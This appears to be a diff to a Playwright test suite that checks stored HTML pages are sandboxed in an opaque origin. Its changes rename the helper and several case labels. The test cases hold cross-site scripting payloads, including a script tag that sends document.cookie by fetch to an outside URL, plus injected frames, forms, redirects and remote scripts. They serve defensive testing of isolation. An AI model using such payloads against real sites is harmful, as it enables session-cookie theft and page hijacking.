@@ -26,7 +26,7 @@ afterAll(async () => {
 });
 
 /** Opens a stored page with a session on the same host. */
-async function openStored(html: string): Promise<Page> {
+async function openStoredPage(html: string): Promise<Page> {
   const { id } = await run.newOrganization();
   const [url = ''] = await storePages(run.service, id, [`<!doctype html><title>stored</title>${html}`]);
   const context = await browser.newContext();
@@ -39,21 +39,24 @@ async function openStored(html: string): Promise<Page> {
 
 test.each([
   ['a script', `<script>document.title = 'ran'; fetch('${otherUrl}/script?' + document.cookie)</script>`],
-  ['a handler', `<img src="data:," onerror="document.title = 'ran'; location = '${otherUrl}/handler'">`],
+  [
+    'an event handler',
+    `<img src="data:," onerror="document.title = 'ran'; location = '${otherUrl}/handler'">`,
+  ],
   ['a script of another site', `<script src="${otherUrl}/script.js"></script>`],
   ['a style of another site', `<link rel="stylesheet" href="${otherUrl}/style.css">`],
   ['a frame', `<iframe src="${otherUrl}/frame"></iframe><object data="${otherUrl}/object"></object>`],
   ['a refresh', `<meta http-equiv="refresh" content="0;url=${otherUrl}/refresh">`],
-  ['a base', `<base href="${otherUrl}/"><script src="base.js"></script>`],
+  ['a base URL', `<base href="${otherUrl}/"><script src="base.js"></script>`],
   ['a script URL', `<a id="go" href="javascript:document.title='ran'">go</a>`],
   ['a form', `<form id="form" action="${otherUrl}/form" method="post"><button id="go">go</button></form>`],
   ['a new window', `<a id="go" href="${otherUrl}/window" target="_blank" rel="opener">go</a>`],
-  ['the top window', `<a id="go" href="${otherUrl}/top" target="_top">go</a>`],
+  ['a link in the top window', `<a id="go" href="${otherUrl}/top" target="_top">go</a>`],
 ])('%s in a stored page sends no request and has no effect', async (kind, html) => {
   requests.length = 0;
-  const page = await openStored(html);
+  const page = await openStoredPage(html);
   // Readers may follow links, which send no cookies or referrer.
-  const isLink = kind === 'the top window';
+  const isLink = kind === 'a link in the top window';
   await page
     .locator('#go')
     .click({ timeout: 2_000 })
@@ -66,7 +69,7 @@ test.each([
 });
 
 test('stored pages run in an opaque origin without access to sessions or storage', async () => {
-  const page = await openStored('<p>stored</p>');
+  const page = await openStoredPage('<p>stored</p>');
   expect(await page.evaluate(() => window.origin)).toBe('null');
   const results = await page.evaluate(() =>
     [() => document.cookie, () => localStorage.length, () => indexedDB.open('x')].map((read) => {
